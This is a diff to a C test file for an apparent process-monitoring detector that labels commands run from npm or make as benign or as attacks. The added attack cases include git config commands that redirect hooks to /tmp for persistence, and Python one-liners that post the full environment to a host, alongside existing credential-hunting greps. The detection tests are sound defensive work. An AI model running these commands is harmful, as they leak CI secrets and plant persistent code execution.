@@ -1898,6 +1898,8 @@ static const struct exec_case ordinary[] = {
 	  NULL },
 	/* husky's hooks for the repository, the builtin fsmonitor, a CI identity */
 	{ "/usr/bin/git", ARGV("git", "config", "core.hooksPath", ".husky/_"), NPM_ANC, NULL },
+	{ "/usr/bin/git", ARGV("git", "config", "--file", ".gitmodules", "submodule.x.url", "u"),
+	  SH_MAKE, NULL },
 	{ "/usr/bin/git", ARGV("git", "config", "core.fsmonitor", "true"), SH_MAKE, NULL },
 	{ "/usr/bin/git", ARGV("git", "config", "--global", "user.email", "ci@example.com"), SH_MAKE,
 	  NULL },
@@ -1984,6 +1986,9 @@ static const struct exec_case attacks[] = {
 	{ "/usr/bin/git", ARGV("git", "config", "--global", "core.hooksPath", "/tmp/.hooks"),
 	  NPM_ANC, "git-config-persistence" },
 	{ "/usr/bin/git", ARGV("git", "config", "--system", "alias.st", "!sh -c 'id' && git status"),
+	  NPM_ANC, "git-config-persistence" },
+	{ "/usr/bin/git",
+	  ARGV("git", "config", "--file", "/home/runner/.gitconfig", "core.hooksPath", "/tmp/.h"),
 	  NPM_ANC, "git-config-persistence" },
 	{ "/usr/bin/grep", ARGV("grep", "-i", "extraheader", ".git/config"), NPM_ANC,
 	  "credential-hunting" },
@@ -2481,6 +2486,20 @@ static const struct oneliner_case oneliners[] = {
 	  ENV_SENT, false },
 	{ "/usr/bin/node", ARGV("node", "-e", "fetch(process.env.URL)"), ENV_SENT, false },
 	{ "/usr/bin/perl", ARGV("perl", "-e", "print $ENV{HOME}"), ENV_SENT, false },
+	/* the environment imported by name */
+	{ PY, ARGV("python3", "-c",
+		   "from os import environ; import json,urllib.request as u; "
+		   "u.urlopen(h, data=json.dumps(dict(environ)).encode())"),
+	  ENV_SENT, true },
+	{ PY, ARGV("python3", "-c",
+		   "from os import path, environ\nimport requests\nrequests.post(h, data=str(environ))"),
+	  ENV_SENT, true },
+	{ PY, ARGV("python3", "-c",
+		   "from os import environ; import urllib.request as u; u.urlopen(environ['URL'])"),
+	  ENV_SENT, false },
+	{ PY, ARGV("python3", "-c",
+		   "from os import environ; import urllib.request as u; u.urlopen(environ.get('U'))"),
+	  ENV_SENT, false },
 };
 
 /* The default's rules on what an interpreter's one-liner does once it connects. */
